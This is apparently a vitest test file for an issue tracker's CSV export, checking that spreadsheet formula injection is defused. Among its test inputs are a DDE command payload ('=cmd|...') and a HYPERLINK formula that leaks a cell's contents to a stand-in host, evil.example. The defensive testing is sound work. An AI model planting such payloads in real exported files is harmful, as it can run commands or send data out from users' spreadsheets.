import { describe, expect, it } from 'vitest';
import { csvCell, issuesToCsv } from '../../src/issues/csv.js';
import { DEFAULT_CATEGORIES, type Issue } from '../../src/issues/model.js';
import { applyTriageAction, createIssue } from '../../src/issues/rules.js';
import { validateNewIssue } from '../../src/issues/validation.js';
import { alice, bo, form } from './fixtures.js';

const t0 = new Date('2026-03-02T09:00:00Z');

function issueWith(over: Record<string, unknown> = {}): Issue {
  const v = validateNewIssue(form(over), DEFAULT_CATEGORIES);
  if (!v.ok) throw new Error(`invalid fixture: ${JSON.stringify(v.errors)}`);
  return createIssue(v.value, alice, 'R-0042', 42, t0);
}

/** Splits CSV the way a spreadsheet does: quotes respected, cells split on `sep`, lines on CR LF. */
function readCsv(text: string, sep: string): string[][] {
  const rows: string[][] = [];
  let row: string[] = [];
  let cell = '';
  let quoted = false;
  for (let i = 0; i < text.length; i++) {
    const c = text[i]!;
    if (quoted) {
      if (c === '"' && text[i + 1] === '"') {
        cell += '"';
        i++;
      } else if (c === '"') quoted = false;
      else cell += c;
    } else if (c === '"') quoted = true;
    else if (c === sep) {
      row.push(cell);
      cell = '';
    } else if (c === '\r' && text[i + 1] === '\n') {
      row.push(cell);
      rows.push(row);
      row = [];
      cell = '';
      i++;
    } else cell += c;
  }
  if (cell || row.length) rows.push([...row, cell]);
  return rows;
}

const FORMULA = /^(?:[\t\r]|\s*[=+\-@＝＋－＠])/;

describe('csvCell', () => {
  it('quotes every cell and doubles quotes (RFC 4180)', () => {
    expect(csvCell('plain')).toBe('"plain"');
    expect(csvCell('a,b')).toBe('"a,b"');
    expect(csvCell('say "hi"')).toBe('"say ""hi"""');
    expect(csvCell('line\nbreak')).toBe('"line\nbreak"');
    expect(csvCell(3)).toBe('"3"');
    expect(csvCell(undefined)).toBe('""');
  });

  it('defuses a cell that starts like a formula', () => {
    expect(csvCell('=1+1')).toBe(`"'=1+1"`);
    expect(csvCell('+44 20')).toBe(`"'+44 20"`);
    expect(csvCell('-2')).toBe(`"'-2"`);
    expect(csvCell('@SUM(A1)')).toBe(`"'@SUM(A1)"`);
    expect(csvCell('\t=1')).toBe(`"'\t=1"`);
    expect(csvCell('=cmd|"/c calc"!A1')).toBe(`"'=cmd|""/c calc""!A1"`);
  });

  it('defuses a formula behind leading spaces (also no-break and ideographic ones) or written with full-width signs', () => {
    // Spreadsheets skip leading blanks and read ＝ ＋ － ＠ like their ASCII forms: each of these would run.
    for (const cell of [' =1+1', '  +44 20', '\u00A0-2', '\u3000@SUM(A1)', ' \t=1', '\uFEFF=1', '＝1+1', '＋44', '－2', '＠SUM(A1)', ' ＝HYPERLINK("x")']) {
      expect(csvCell(cell), JSON.stringify(cell)).toBe(`"'${cell.replace(/"/g, '""')}"`);
    }
    expect(csvCell('\r=1')).toBe(`"'\r=1"`);
    expect(csvCell('Printer;\u00A0=1+2')).toBe(`"'Printer;\u00A0=1+2"`);
    expect(csvCell('Printer, ＝1+2')).toBe(`"'Printer, ＝1+2"`);
    expect(csvCell('first line\n\u3000＠SUM(A1)')).toBe(`"'first line\n\u3000＠SUM(A1)"`);
    // Ordinary text with those signs inside is left as written.
    expect(csvCell('Sync － offline')).toBe('"Sync － offline"');
    expect(csvCell(' Ward 3')).toBe('" Ward 3"');
  });

  it('defuses a formula hidden after a separator or a line break', () => {
    expect(csvCell('Printer;=1+2')).toBe(`"'Printer;=1+2"`);
    expect(csvCell('Printer, =HYPERLINK("x")')).toBe(`"'Printer, =HYPERLINK(""x"")"`);
    expect(csvCell('first line\n@SUM(A1)')).toBe(`"'first line\n@SUM(A1)"`);
    expect(csvCell('a|+1')).toBe(`"'a|+1"`);
    // Ordinary text with those characters elsewhere is left as written.
    expect(csvCell('Sync - offline')).toBe('"Sync - offline"');
    expect(csvCell('user@example.org')).toBe('"user@example.org"');
  });
});

describe('issuesToCsv', () => {
  it('writes a header and one CRLF line per issue with history counts', () => {
    const commented = applyTriageAction(
      issueWith(),
      { kind: 'comment', text: 'ok', visibility: 'public' },
      bo,
      new Date(t0.getTime() + 60_000),
    );
    if (!commented.ok) throw new Error(commented.message);
    const rows = readCsv(issuesToCsv([commented.issue]), ',');
    expect(rows).toHaveLength(2);
    expect(rows[0]).toHaveLength(20);
    expect(rows[1]!.slice(0, 7)).toEqual([
      'R-0042',
      'Cannot log in to the IMS',
      'New',
      '',
      'Blocks my work',
      'Access / login',
      'North clinic',
    ]);
    expect(rows[1]!.slice(-3)).toEqual(['1', '1', '2']);
  });

  it('gives no cell that starts a formula, whichever list separator the spreadsheet uses', () => {
    const csv = issuesToCsv([
      issueWith({
        title: 'Printer;=1+2',
        description: 'Steps:\n=HYPERLINK("http://evil.example/?"&A1,"click")',
        location: 'Ward 3,\u00A0+cmd',
        site: ' ＠North',
      }),
    ]);
    for (const sep of [',', ';', '\t']) {
      for (const row of readCsv(csv, sep)) {
        for (const cell of row) expect(cell, `separator ${JSON.stringify(sep)}: ${cell}`).not.toMatch(FORMULA);
      }
    }
  });
});
